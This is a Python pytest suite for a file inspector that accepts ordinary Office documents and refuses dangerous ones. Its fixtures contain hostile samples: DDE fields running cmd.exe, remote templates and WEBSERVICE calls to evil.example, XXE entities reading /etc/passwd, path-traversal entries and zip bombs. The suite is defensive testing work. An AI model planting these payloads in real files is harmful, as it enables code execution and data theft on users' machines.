"""Word, Excel and PowerPoint files: what is taken and what is refused, by real bytes in a real process."""

import io
import struct
import tempfile
import time
import zipfile
from pathlib import Path

import pytest

from network.files.enums import DOCUMENTS, LETTERS, FileKind, Refusal
from network.files.opening import NoAnswer, inspect, read_words
from tests.files.samples import (
    OF_OFFICE,
    W,
    archive,
    bomb,
    office,
    packed,
    pdf,
    picture,
    protected,
    relation,
    with_packed,
    word,
)

MS = "application/vnd.ms-"


def looked_at(content: bytes, kinds=DOCUMENTS):
    with tempfile.TemporaryFile() as sent, tempfile.TemporaryFile() as made:
        sent.write(content)
        return inspect(sent, made, kinds=kinds)


def override(name: str, said: str) -> str:
    return f'<Override PartName="{name}" ContentType="{said}"/>'


def document(inside: str) -> dict[str, str]:
    return {"word/document.xml": f"<w:document {W}><w:body>{inside}</w:body></w:document>"}


def field(*pieces: str) -> str:
    """A field of Word, cut into pieces as Word does it."""
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}</w:p>'


def renamed_inside(content: bytes, old: bytes, new: bytes) -> bytes:
    """Names of parts changed in both places where an archive says them; of the same length."""
    return content.replace(old, new)


# --- Taken --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_file_is_known_by_its_content(kind):
    verdict = looked_at(office(kind))

    assert (verdict.kind, verdict.pages, verdict.refusal) == (kind, 0, "")


def made_by_python_docx() -> bytes:
    from docx import Document

    made = io.BytesIO()
    document = Document()
    document.add_heading("Procès-verbal")
    document.add_paragraph("Bonjour à tous")
    document.add_picture(io.BytesIO(picture("PNG")))
    document.save(made)
    return made.getvalue()


def test_file_of_a_real_program_is_taken():
    assert looked_at(made_by_python_docx()).kind == "docx"


@pytest.mark.parametrize(
    "content",
    [
        office(relations=relation("hyperlink", "https://kelowna.example/a:b")),
        office(relations=relation("hyperlink", "mailto:someone@kelowna.example")),
        office(relations=relation("hyperlink", "#Sheet2!A1")),
        office(relations=relation("hyperlink", "../budget.xlsx")),
        office(parts={"word/media/image1.png": picture("PNG"), "word/media/image2.emf": b"\1\0\0\0"}),
        office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\0\1"}),
        office("xlsx", {"xl/worksheets/sheet1.xml": "<s><c><f>SUM(A1:A9)</f></c><c><f>Plan!A1</f></c></s>"}),
        office(parts=document(field("PAGE") + field("TOC \\o") + field("HYPERLINK", ' "https://a.example"'))),
        office(parts=document(field('HYPERLINK "https://a.example/link/import"') + field("REF _link"))),
        office("xlsx", {"xl/worksheets/sheet1.xml": '<s><f>"a|b"&amp;Plan!A1</f></s>'}),
        office(parts=document(word("We link DDE and LINK, and QUOTE 5."))),
        office("xlsx", {"xl/drawings/drawing1.xml": '<sp macro=""/>'}),
        office(types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-x.oleObject"/>'),
        office(parts={"word/": b""}),
    ],
    ids=[
        "web link", "mail link", "link inside", "link to a neighbour", "pictures", "printer", "formulas", "fields",
        "words of fields in an address", "words of formulas in a text",
        "words of fields in the text", "empty macro", "type that no part has", "folder",
    ],
)  # fmt: skip
def test_file_as_offices_make_it_is_taken(content):
    assert looked_at(content).refusal == ""


# --- Refused ------------------------------------------------------------------------------------------------

BAD = {
    "any archive": (archive({"letter.txt": "x"}), Refusal.NOT_A_DOCUMENT),
    "text document of another office": (
        archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}), Refusal.NOT_A_DOCUMENT,
    ),
    "without a document": (
        office(main_type="application/xml"), Refusal.NOT_A_DOCUMENT,
    ),
    "template": (
        office(main_type=f"{OF_OFFICE}wordprocessingml.template.main+xml"), Refusal.NOT_A_DOCUMENT,
    ),
    "document that is named elsewhere": (
        office(parts={"_rels/.rels": "<Relationships/>"}), Refusal.NOT_A_DOCUMENT,
    ),
    "two documents": (
        office(types=override("/xl/workbook.xml", f"{OF_OFFICE}spreadsheetml.sheet.main+xml")), Refusal.NOT_A_DOCUMENT,
    ),
    "html": (b"<html><script>alert(1)</script></html>", Refusal.NOT_A_DOCUMENT),
    "text": (b"Dear colleagues", Refusal.NOT_A_DOCUMENT),
    "empty": (b"", Refusal.EMPTY),
    "password": (protected(), Refusal.ENCRYPTED),
    "old kind": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, Refusal.OLD_OFFICE),
    "DOCM renamed": (
        office(main_type=f"{MS}word.document.macroEnabled.main+xml"), Refusal.MACROS,
    ),
    "XLSM renamed": (
        office("xlsx", main_type=f"{MS}excel.sheet.macroEnabled.main+xml"), Refusal.MACROS,
    ),
    "PPTM renamed": (
        office("pptx", main_type=f"{MS}powerpoint.presentation.macroEnabled.main+xml"), Refusal.MACROS,
    ),
    "program beside the document": (office(parts={"word/vbaProject.bin": b"x"}), Refusal.MACROS),
    "program under another name": (
        office(parts={"word/media/i.png": b"x"}, types=override("/word/media/i.png", f"{MS}office.vbaProject")),
        Refusal.MACROS,
    ),
    "program by its ending": (
        office(types=f'<Default Extension="xml" ContentType="{MS}office.vbaProject"/>'), Refusal.MACROS,
    ),
    "program by its relation": (
        office(relations='<Relationship Id="r9" Target="x.xml" '
               'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'), Refusal.MACROS,
    ),
    "macro sheet": (
        office("xlsx", types=override("/xl/macrosheets/sheet1.xml", f"{MS}excel.macrosheet+xml")), Refusal.MACROS,
    ),
    "control": (
        office(types=override("/word/activeX/activeX1.xml", f"{MS}office.activeX+xml")), Refusal.MACROS,
    ),
    "control by its relation": (office(relations=relation("control", "x.xml", is_outside=False)), Refusal.REACHES_OUT),
    "shape that runs a macro": (office("xlsx", {"xl/drawings/drawing1.xml": '<sp macro="[1]!Run"/>'}), Refusal.MACROS),
    "slide that runs a program": (
        office("pptx", {"ppt/slides/slide1.xml": '<hlinkClick action="ppaction://program"/>'}), Refusal.MACROS,
    ),
    "buttons of its own": (
        office(relations='<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2007/relationships/ui/'
               'extensibility" Target="x.xml"/>'), Refusal.MACROS,
    ),
    "object inside": (office(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), Refusal.REACHES_OUT),
    "object by its element": (
        office(parts=document('<w:object><o:OLEObject xmlns:o="o"/></w:object>')), Refusal.REACHES_OUT,
    ),
    "workbook inside": (office(parts={"word/embeddings/sheet.xlsx": office("xlsx")}), Refusal.REACHES_OUT),
    "archive under the name of a picture": (
        office(parts={"word/media/image1.png": archive({"a": "b"})}), Refusal.REACHES_OUT,
    ),
    "program under the name of a picture": (office(parts={"word/media/image1.png": b"MZ\x90"}), Refusal.REACHES_OUT),
    "web page inside": (office(parts={"word/afchunk.html": b"<html>"}), Refusal.REACHES_OUT),
    "web page by its relation": (office(relations=relation("aFChunk", "x.xml", is_outside=False)), Refusal.REACHES_OUT),
    "picture from elsewhere": (office(relations=relation("image", "https://evil.example/x.png")), Refusal.REACHES_OUT),
    "template from elsewhere": (
        office(parts={"word/_rels/settings.xml.rels": "<Relationships>"
                      + relation("attachedTemplate", "https://evil.example/x.dotm") + "</Relationships>"}),
        Refusal.REACHES_OUT,
    ),
    "object from elsewhere": (office(relations=relation("oleObject", "https://evil.example/x!")), Refusal.REACHES_OUT),
    "link to a share": (office(relations=relation("hyperlink", r"\\evil.example\x")), Refusal.REACHES_OUT),
    "link to a disk": (office(relations=relation("hyperlink", "file:///C:/x.exe")), Refusal.REACHES_OUT),
    "link that is a program": (office(relations=relation("hyperlink", "javascript:alert(1)")), Refusal.REACHES_OUT),
    "link to a share by slashes": (office(relations=relation("hyperlink", "//evil.example/x")), Refusal.REACHES_OUT),
    "workbook of elsewhere": (
        office("xlsx", relations=relation("externalLink", "externalLinks/externalLink1.xml", is_outside=False)),
        Refusal.REACHES_OUT,
    ),
    "data of elsewhere": (
        office("xlsx", types=override("/xl/connections.xml", f"{OF_OFFICE}spreadsheetml.connections+xml")),
        Refusal.REACHES_OUT,
    ),
    "DDE": (office(parts=document(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))), Refusal.REACHES_OUT),
    "DDE inside another field": (
        office(parts=document('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field("DDE cmd"))), Refusal.REACHES_OUT,
    ),
    "DDE inside an address": (
        office(parts=document('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "</w:instrText></w:r>'
                              + field("DDEAUTO cmd"))), Refusal.REACHES_OUT,
    ),
    "link to a part elsewhere": (office(relations=relation("image", "https://evil.example/x.png", is_outside=False)),
                                 Refusal.REACHES_OUT),
    "DDE in pieces": (office(parts=document(field("D", "DE", "AUTO", " cmd"))), Refusal.REACHES_OUT),
    "DDE in one element": (office(parts=document('<w:fldSimple w:instr="DDE cmd"/>')), Refusal.REACHES_OUT),
    "DDE by numbers": (office(parts=document(field("QUOTE 68 68 69"))), Refusal.REACHES_OUT),
    "DDE of a sheet": (
        office("xlsx", {"xl/worksheets/sheet1.xml": "<s><f>cmd|'/c calc'!A0</f></s>"}), Refusal.REACHES_OUT,
    ),
    "formula that fetches": (
        office("xlsx", {"xl/worksheets/sheet1.xml": '<s><f>_xlfn.WEBSERVICE("https://evil.example")</f></s>'}),
        Refusal.REACHES_OUT,
    ),
    "text of a file": (office(parts=document(field("INCLUDETEXT c:\\\\x.txt"))), Refusal.REACHES_OUT),
    "entities": (
        office(parts={"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), Refusal.DAMAGED,
    ),
    "entities in the list of types": (
        office(parts={"[Content_Types].xml": '<!DOCTYPE a SYSTEM "file:///etc/passwd"><Types/>'}), Refusal.DAMAGED,
    ),
    "broken words": (office(parts={"word/document.xml": "<w:document>"}), Refusal.DAMAGED),
    "elements without end": (office(parts={"word/document.xml": "<a>" * 5_000 + "</a>" * 5_000}), Refusal.TOO_VAST),
    "10,000 parts": (office(parts={f"word/{number}.xml": "<a/>" for number in range(10_000)}), Refusal.TOO_VAST),
    "path above": (office(parts={"../../etc/cron.d/x.xml": "<a/>"}), Refusal.MIXED),
    "path of a disk": (office(parts={"C:/x.xml": "<a/>"}), Refusal.MIXED),
    "path from the root": (office(parts={"/etc/x.xml": "<a/>"}), Refusal.MIXED),
    "path of another system": (office(parts={"word\\x.xml": "<a/>"}), Refusal.MIXED),
    "part twice": (office(parts={"word/Document.xml": "<a/>"}), Refusal.MIXED),
    "something behind": (office() + b"<script>", Refusal.MIXED),
    "something between": (office().replace(b"PK\1\2", b"hidden" * 9 + b"PK\1\2", 1), Refusal.MIXED),
    "cut off": (office()[:-40], Refusal.DAMAGED),
}  # fmt: skip


@pytest.mark.parametrize(("content", "refusal"), BAD.values(), ids=BAD.keys())
def test_file_is_refused(content, refusal):
    verdict = looked_at(content)

    assert (verdict.refusal, verdict.kind) == (refusal, "")


def test_part_with_a_password_is_refused():
    content = bytearray(office())
    for mark in (b"PK\1\2", b"PK\3\4"):
        place = content.index(mark) + (8 if mark == b"PK\1\2" else 6)
        content[place] |= 1

    assert looked_at(bytes(content)).refusal == Refusal.ENCRYPTED


def test_head_that_says_something_else_than_the_list_is_refused():
    content = bytearray(office())
    first = content.index(b"PK\3\4")
    content[first + 22 : first + 26] = struct.pack("<L", 7)

    assert looked_at(bytes(content)).refusal == Refusal.MIXED


def test_pdf_with_an_office_file_behind_it_is_neither():
    assert looked_at(pdf() + office()).refusal == Refusal.MIXED


@pytest.mark.parametrize("content", [office(), office("xlsx"), archive({"a": "b"}), protected()])
def test_letters_are_never_office_files(content):
    assert looked_at(content, LETTERS).refusal == Refusal.NOT_A_FILE


def test_only_the_kinds_of_the_place_are_taken():
    assert looked_at(office("xlsx"), [FileKind.DOCX]).refusal == Refusal.NOT_A_DOCUMENT
    assert looked_at(pdf(), [FileKind.DOCX]).refusal == Refusal.NOT_A_DOCUMENT


# --- Bombs --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "refusal"),
    [(4_000_000_000, Refusal.TOO_VAST), (100_000_000, Refusal.DAMAGED), (1_000, Refusal.DAMAGED)],
    ids=["says so", "says less", "says next to nothing"],
)
def test_ten_gigabytes_of_zeros_are_never_unpacked(said, refusal):
    content = bomb(10_000_000_000, said=said)
    started = time.monotonic()

    assert looked_at(content).refusal == refusal
    assert time.monotonic() - started < 5


def test_many_parts_that_are_large_together_are_refused():
    content = office(parts={f"word/media/{number}.png": b"\x89" + bytes(40_000_000) for number in range(9)})

    assert looked_at(content).refusal == Refusal.TOO_VAST


def test_small_parts_over_each_other_are_refused():
    """The same bytes named by many entries: each small, all together vast."""
    made = io.BytesIO(office())
    with zipfile.ZipFile(made, "a") as whole:
        first = whole.infolist()[0]
        for number in range(50):
            other = zipfile.ZipInfo(f"word/{number}.xml")
            for name in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(other, name, getattr(first, name))
            whole.filelist.append(other)
            whole.NameToInfo[other.filename] = other
        whole._didModify = True

    assert looked_at(made.getvalue()).refusal == Refusal.MIXED


def test_large_spreadsheet_is_taken_in_time():
    rows = "".join(f'<row><c r="A{n}"><v>{n * 7919}</v></c><c><f>A{n}*2</f></c></row>' for n in range(120_000))
    started = time.monotonic()

    assert looked_at(office("xlsx", {"xl/worksheets/sheet1.xml": f"<s>{rows}</s>"})).kind == "xlsx"
    assert time.monotonic() - started < 15


def test_part_with_a_wrong_sum_is_damaged():
    assert looked_at(with_packed(office(), "word/media/a.png", packed(b"x"), 9)).refusal == Refusal.DAMAGED


# --- Words --------------------------------------------------------------------------------------------------


def words_of(content: bytes, kind: str) -> str:
    with tempfile.TemporaryFile() as stored:
        stored.write(content)
        return read_words(stored, kind)


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_words_of_an_office_file_are_read(kind):
    assert words_of(office(kind, words="Éclairage des ruelles"), kind) == "Éclairage des ruelles"


def test_words_of_a_pdf_are_read():
    font = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    page = pdf([packed(b"BT /F1 12 Tf 72 720 Td (Alley lighting) Tj ET")])
    page = page.replace(b"/MediaBox [0 0 612 792]", font + b" /MediaBox [0 0 612 792] /Contents 4 0 R", 1)

    assert words_of(page, "pdf") == "Alley lighting"


def test_words_in_pieces_are_one_and_paragraphs_are_apart():
    pieces = "<w:p><w:r><w:t>neigh</w:t></w:r><w:r><w:t>bourhood</w:t></w:r></w:p>" + word("watch")

    assert words_of(office(parts=document(pieces)), "docx") == "neighbourhood watch"


def test_what_was_taken_out_is_not_read():
    gone = "<w:p><w:del><w:r><w:delText>secret</w:delText></w:r></w:del></w:p>"

    assert words_of(office(parts=document(gone + word("kept"))), "docx") == "kept"


def test_words_have_an_end(settings):
    settings.FILE_MOST_CHARACTERS = 1_000

    assert len(words_of(office(words="watch " * 5_000), "docx")) == 1_000


@pytest.mark.parametrize(("content", "kind"), [(b"x", "docx"), (b"x", "pdf"), (office(), "pdf")])
def test_file_that_cannot_be_read_gives_no_answer(content, kind):
    with pytest.raises(NoAnswer):
        words_of(content, kind)


def test_reading_has_an_end_too(settings, monkeypatch, tmp_path):
    settings.FILE_READ_SECONDS = 1
    (tmp_path / "inspector.py").write_text("import time; time.sleep(60)")
    monkeypatch.setattr("network.files.opening.INSPECTOR", Path(tmp_path / "inspector.py"))

    with pytest.raises(NoAnswer):
        words_of(office(), "docx")
